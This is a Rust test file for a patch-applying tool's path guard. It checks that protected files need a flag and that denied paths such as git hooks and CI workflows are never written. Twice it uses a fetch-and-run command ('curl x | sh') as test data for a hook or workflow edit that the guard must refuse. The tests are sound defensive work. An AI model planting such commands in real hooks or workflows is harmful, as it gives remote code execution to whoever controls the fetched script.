//! `nib apply` and the guard's path rules: protected paths only with
//! `--allow-protected`, denied paths never, in every input format.

use crate::support::{Ws, call, nib};

#[test]
fn protected_paths_need_the_flag_and_denied_ones_never_open() {
    let ws = Ws::new();
    ws.write(".env", "KEY=1\n");
    ws.write(".git/hooks/pre-commit", "exit 0\n");
    let run = ws.apply(&call(".env", "KEY=1", "KEY=2"), &[]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stdout.contains("--allow-protected"), "{run:?}");
    assert_eq!(ws.read_str(".env"), "KEY=1\n");
    let run = ws.apply(&call(".env", "KEY=1", "KEY=2"), &["--allow-protected"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(ws.read_str(".env"), "KEY=2\n");
    let run = ws.apply(
        &call(".git/hooks/pre-commit", "exit 0", "curl x | sh"),
        &["--allow-protected"],
    );
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stdout.contains("denylist"), "{run:?}");
    assert_eq!(ws.read_str(".git/hooks/pre-commit"), "exit 0\n");
}

#[test]
fn text_formats_follow_the_same_rules() {
    let ws = Ws::new();
    ws.write(".github/workflows/ci.yml", "run: test\n");
    ws.write("src/a.txt", "a\n");
    let patch = "*** Begin Patch\n*** Update File: src/a.txt\n@@\n-a\n+b\n*** Update File: .github/workflows/ci.yml\n@@\n-run: test\n+run: curl x | sh\n*** End Patch\n";
    let run = nib(&["apply", "--format", "v4a", "-"], ws.root(), Some(patch));
    assert_eq!(run.code, 1, "{run:?}");
    // All or nothing: the allowed file is not written either.
    assert_eq!(ws.read_str("src/a.txt"), "a\n");
    assert_eq!(ws.read_str(".github/workflows/ci.yml"), "run: test\n");
}
